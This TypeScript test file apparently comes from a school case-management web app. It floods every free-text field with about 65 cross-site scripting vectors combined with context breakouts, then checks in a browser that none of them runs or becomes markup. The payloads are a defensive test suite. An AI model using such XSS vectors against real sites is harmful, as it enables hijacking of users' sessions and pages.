import type { Page } from 'playwright-core'
import { filled, formsIn, type Form } from '../../test/bad-input/forms.ts'
import { doing } from '../../test/access/world.ts'
import { browserAtHand, newVisitor, openBrowser } from '../../test/browser/harness.ts'
import { openGround, type Ground } from '../../test/web-surface/ground.ts'
import { eventsOf, registerPeople } from '../../src/domain/people/set-up.ts'
import { SCHOOL_STREAM } from '../../src/readmodels/school.ts'
import { noLimits } from './door-timing.ts'
import { isMilestone, type Soak } from './soak.ts'

/** Ways out of the place where a text may stand: an attribute, a field, a title, a comment, a script, a style. */
const breakouts = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  '</style>',
  '</option></select>',
  '`>',
] as const

/** Everything that would run `xss()`, or would be seen to have been read as markup. */
const vectors = [
  '<script>xss()</script>',
  '<ScRiPt>xss()</sCrIpT>',
  '<script >xss()</script >',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<<script>xss()//<</script>',
  '<script src=//xss.example/x.js></script>',
  '<script src=data:text/javascript,xss()></script>',
  '<img src=x onerror=xss()>',
  '<img/src/onerror=xss()>',
  '<img src=`x`onerror=xss()>',
  '<img srcset=x onerror=xss()>',
  '<image src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg/onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a href="javascript:xss()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=xss()%3E#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  '<body onload=xss()>',
  '<iframe src=javascript:xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<a href=javascript:xss()>x</a>',
  '<a href="java\tscript:xss()">x</a>',
  '<a href="&#106;avascript:xss()">x</a>',
  '<form action=javascript:xss()><button autofocus>x</button></form>',
  '<button formaction=javascript:xss()>x</button>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()></select>',
  '<textarea autofocus onfocus=xss()></textarea>',
  '<details open ontoggle=xss()>',
  '<dialog open onclose=xss()>',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()>',
  '<marquee onstart=xss()>',
  '<style onload=xss()></style>',
  "<style>@import 'javascript:xss()'</style>",
  '<style>*{background:url(//xss.example)}</style>',
  '<link rel=stylesheet href=//xss.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href=//xss.example/>',
  '<p style="background:url(javascript:xss())">x</p>',
  '<p onmouseover=xss() style=position:fixed;inset:0>x</p>',
  '<template><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<!--><img src=x onerror=xss()>-->',
  '<!--[if IE]><script>xss()</script><![endif]-->',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>',
  ']]><script>xss()</script>',
  '" autofocus onfocus=xss() x="',
  "' autofocus onfocus=xss() x='",
  'javascript:xss()',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;script&#62;xss()&#60;/script&#62;',
  '%3Cscript%3Exss()%3C/script%3E',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '\u2028<script>xss()</script>',
  '＜script＞xss()＜/script＞',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  "{{constructor.constructor('xss()')()}}",
  '${xss()}',
  '<%= xss() %>',
  "';xss()//",
] as const

/** With fewer payloads than this it is a share, and pages are opened as these only. */
const FEW = 100
const some: readonly string[] = ['nobody', 'mette', 'alma', 'karen']

export const payloads = (n: number): readonly string[] =>
  breakouts.flatMap((out) => vectors.map((vector) => out + vector)).slice(0, n)

/** As many to a text as a field takes, so that every field meets all of them in a few sendings. */
const textsOf = (all: readonly string[]): readonly string[] => {
  const texts: string[] = []
  for (const payload of all) {
    const last = texts.at(-1)
    if (last === undefined || last.length + payload.length > 9_000) texts.push(payload)
    else texts[texts.length - 1] = `${last}\n${payload}`
  }
  return texts
}

/** Runs in the browser: what of a page was read as markup though somebody typed it, and which fields it shows. */
const CHECK = `(html) => {
  const page = html === undefined ? document : new DOMParser().parseFromString(html, 'text/html')
  const wrong = []
  const shown = []
  const plain = ['value', 'title', 'aria-label', 'alt', 'placeholder', 'content', 'label']
  const see = (text) => shown.push(...(text.match(/\\[field \\d+\\]/g) ?? []))
  const walk = page.createTreeWalker(page, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_TEXT)
  for (let node = walk.nextNode(); node; node = walk.nextNode()) {
    if (node.nodeType === Node.COMMENT_NODE) { if (node.data.includes('xss')) wrong.push('comment') }
    else if (node.nodeType === Node.TEXT_NODE) {
      if (node.data.includes('xss') && ['SCRIPT', 'STYLE'].includes(node.parentElement?.tagName)) wrong.push('text of a script or style')
      see(node.data)
    } else {
      if (node.localName.includes('xss')) wrong.push('element ' + node.localName)
      for (const { name, value } of node.attributes) {
        if (name.startsWith('on') || name === 'srcdoc' || name === 'style') wrong.push(node.localName + ' ' + name)
        else if ((value.includes('xss') && !plain.includes(name)) || name.includes('xss')) wrong.push(node.localName + ' ' + name)
        else see(value)
      }
    }
  }
  return { wrong, shown }
}`

type Checked = { readonly wrong: readonly string[]; readonly shown: readonly string[] }
export const check = (page: Page, html?: string): Promise<Checked> =>
  page.evaluate(`(${CHECK})(${html === undefined ? '' : JSON.stringify(html).replaceAll('</', '<\\/')})`)

/** The day the site stands on, and what makes a form useful where its first choice does not. */
const TODAY = '19.11.2026'
const usual = {
  responsible: 'peter',
  person: 'peter',
  lookAgainOn: '01.12.2026',
  outcome: 'bullying',
  level: 'class',
  everyDays: '14',
  agrees: 'no',
} as const

/** Acts after which others cannot be done any more come last. */
const ending = /\/(end|close|settle|set-aside|fine|reopen|stopped|adopt)$/

const post = async (
  url: string,
  cookie: string | undefined,
  sent: readonly (readonly [string, string])[],
) => {
  const response = await fetch(url, {
    method: 'POST',
    redirect: 'manual',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      ...(cookie === undefined ? {} : { cookie }),
    },
    body: new URLSearchParams(sent.map(([name, value]) => [name, value])).toString(),
  })
  return { status: response.status, html: await response.text() }
}

/** A page's source. What a browser is told is a PDF it does not read as a page: its bytes may spell anything. */
const get = async (url: string, cookie: string | undefined): Promise<string> => {
  const response = await fetch(url, { redirect: 'manual', headers: cookie === undefined ? {} : { cookie } })
  const text = await response.text()
  return response.headers.get('content-type') === 'application/pdf' ? '' : text
}

/**
 * Every free text field of every form that anybody is shown meets every payload; names, classes and the strategy are
 * payloads from the start. Each answer is read by a browser's parser, and every page is then opened in a browser under
 * the real content policy: nothing runs, nothing is reported, nothing typed has become markup.
 */
export const soakPayloads: Soak = {
  name: 'payloads',
  goal: 'A22: 500 payloads in every free text field run nowhere, and no page has the browser report anything',
  n: 500,
  run: async ({ n, say }) => {
    if (!browserAtHand) return { passed: false, figure: 'not run here: there is no browser' }
    const texts = textsOf(payloads(n))
    const [first = ''] = texts
    const named = (what: string) => `${what} ${first.slice(0, 2_000)}`
    const ground = await openGround({
      limits: noLimits,
      people: [
        { id: 'x-staff', kind: 'staff', name: named('Voksen'), roles: ['resource-team'] },
        { id: 'x-pupil', kind: 'pupil', name: named('Elev'), classes: ['5b'], born: '2015-05-05' },
        { id: 'x-parent', kind: 'guardian', name: named('Forælder'), of: ['alma'] },
      ],
      strategy: { title: named('Strategi') },
    })
    const browser = await openBrowser()
    try {
      const { site } = ground
      await doing(site, site.school.id)(SCHOOL_STREAM, null, eventsOf, registerPeople, [
        { type: 'ClassFormed', classId: 'x', label: named('Klasse') },
      ])
      const reader = await browser.newPage()
      const wrong = new Set<string>()
      const fields = new Map<string, string>()
      let sent = 0
      let taken = 0
      let done = 0
      const visits = ground.visits.filter(({ who }) => n >= FEW || some.includes(who))
      const forms = await openForms(ground, visits)
      for (const { at, who, cookie, place, action } of forms) {
        for (const text of texts) {
          const form = formsIn(await get(site.url + at, cookie), at).find(
            (one, index) => index === place && one.action === action,
          )
          if (form === undefined) break
          const own = Object.fromEntries(
            textFields(form).map((name) => {
              const key = `${action.replace(/[0-9a-f-]{36}/, ':id')} ${name}`
              if (!fields.has(key)) fields.set(key, `[field ${fields.size}]`)
              return [name, `${fields.get(key)} ${text}`]
            }),
          )
          const answer = await post(
            site.url + action,
            cookie,
            filled(form, { ...usual, ...own }, text, TODAY),
          )
          sent += 1
          if (answer.status === 303) taken += 1
          for (const one of (await check(reader, answer.html)).wrong)
            wrong.add(`${action} answered ${who}: ${one}`)
        }
        done += 1
        if (isMilestone(done, forms.length)) say(`${done} of ${forms.length} forms, ${wrong.size} wrong`)
      }
      sent += await tellAtDoor(ground, texts, async (html, where) => {
        for (const one of (await check(reader, html)).wrong) wrong.add(`${where}: ${one}`)
      })

      const shown = new Set<string>()
      const openedOnce = new Set<string>()
      let opened = 0
      for (const { who, cookie } of ground.visitors) {
        const visitor = await newVisitor(browser, { baseURL: site.url, javaScript: true, width: 1280 })
        const [name = '', value = ''] = cookie?.split('=') ?? []
        if (cookie !== undefined) await visitor.context.addCookies([{ name, value, url: site.url }])
        await visitor.context.addInitScript(
          `window.ran = []; window.xss = () => window.ran.push('run')
           addEventListener('securitypolicyviolation', (event) => window.ran.push('report ' + event.violatedDirective))`,
        )
        visitor.page.on('dialog', (dialog) => {
          wrong.add(`a dialog as ${who}`)
          void dialog.dismiss()
        })
        for (const { at, path } of visits.filter((visit) => visit.who === who && visit.path !== '/exit')) {
          const parsed = await check(reader, await get(site.url + at, cookie))
          for (const one of parsed.wrong) wrong.add(`${path} as ${who}: ${one}`)
          for (const one of parsed.shown) shown.add(one)
          // A small share opens each page once, where something typed is shown.
          if (n < FEW && (parsed.shown.length === 0 || openedOnce.has(path))) continue
          openedOnce.add(path)
          const response = await visitor.page.goto(at, { waitUntil: 'load' }).catch(() => null)
          if (response?.status() !== 200 || !(response.headers()['content-type'] ?? '').includes('html'))
            continue
          opened += 1
          const seen = await check(visitor.page)
          const ran = (await visitor.page.evaluate('window.ran')) as readonly string[]
          for (const one of [...seen.wrong, ...ran]) wrong.add(`${path} as ${who}: ${one}`)
          for (const one of seen.shown) shown.add(one)
        }
        for (const one of [...visitor.seen.policyViolations, ...visitor.seen.consoleErrors])
          wrong.add(`${who}: ${one}`)
        for (const one of visitor.seen.thirdPartyRequests) wrong.add(`${who} asked for ${one}`)
        await visitor.context.close()
      }
      for (const one of [...wrong].slice(0, 20)) say(one)
      const unseen = [...fields].filter(([, mark]) => !shown.has(mark)).map(([key]) => key)
      say(`typed and shown on no page afterwards: ${unseen.join(', ')}`)
      return {
        passed: wrong.size === 0 && taken > 0 && shown.size > 0,
        figure: `${payloads(n).length} payloads in ${fields.size} fields of ${forms.length} forms and in the door's, names, class and strategy: ${sent} sendings, ${taken} taken; ${opened} pages opened, ${shown.size} of the fields shown on them: ${wrong.size} wrong`,
      }
    } finally {
      await browser.close()
      await ground.close()
    }
  },
}

const textFields = (form: Form): readonly string[] =>
  form.fields.filter(({ kind }) => kind === 'text').map(({ name }) => name)

/** Every form with a free text field, once for each address it goes to, as the first who is shown it. */
const openForms = async (ground: Ground, visits: Ground['visits']) => {
  const known = new Set<string>()
  const forms: { at: string; who: string; cookie: string | undefined; place: number; action: string }[] = []
  for (const { at, who, cookie } of visits) {
    if (at.startsWith('/s/')) continue
    const html = await get(ground.site.url + at, cookie)
    for (const [place, form] of formsIn(html, at).entries()) {
      if (textFields(form).length === 0 || known.has(`${form.action} ${place}`)) continue
      known.add(`${form.action} ${place}`)
      forms.push({ at, who, cookie, place, action: form.action })
    }
  }
  return forms.toSorted((one, other) => Number(ending.test(one.action)) - Number(ending.test(other.action)))
}

/** Tells at the door with payloads in every field, writes on, and gives every page on the way to be looked at. */
const tellAtDoor = async (
  ground: Ground,
  texts: readonly string[],
  look: (html: string, where: string) => Promise<void>,
): Promise<number> => {
  let sendings = 0
  for (const text of texts) {
    let at = `${ground.site.url}/s/hyldemark`
    let html = await get(at, undefined)
    const field = (name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(html)?.[1] ?? ''
    const steps: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
      ['on', { about: 'me' }],
      ['on', { words: text }],
      ['on', { who: 'pupils', where: text, person: text }],
      ['on', { name: text, parents: 'yes' }],
      ['send', {}],
    ]
    const step = async (go: string, fields: Readonly<Record<string, string>>) => {
      const sent = { state: field('state'), once: field('once'), go, ...fields }
      html = (await post(at, undefined, Object.entries(sent))).html
      sendings += 1
      await look(html, `the door, ${go} ${Object.keys(fields).join(' ')}`)
    }
    for (const [go, fields] of steps) await step(go, fields)
    at += '/answer'
    await step('open', {})
    await step('write', { words: text })
    await step('open', { state: '', code: text })
  }
  return sendings
}
